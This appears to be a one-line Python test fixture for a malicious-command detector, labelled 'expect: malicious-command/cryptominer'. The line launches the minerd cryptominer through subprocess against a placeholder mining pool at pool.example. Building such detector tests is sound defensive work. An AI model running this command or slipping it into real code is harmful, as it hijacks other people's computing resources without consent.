import subprocess

subprocess.Popen("minerd --url stratum+tcp://pool.example:3333 --userpass x:y", shell=True) # expect: malicious-command/cryptominer
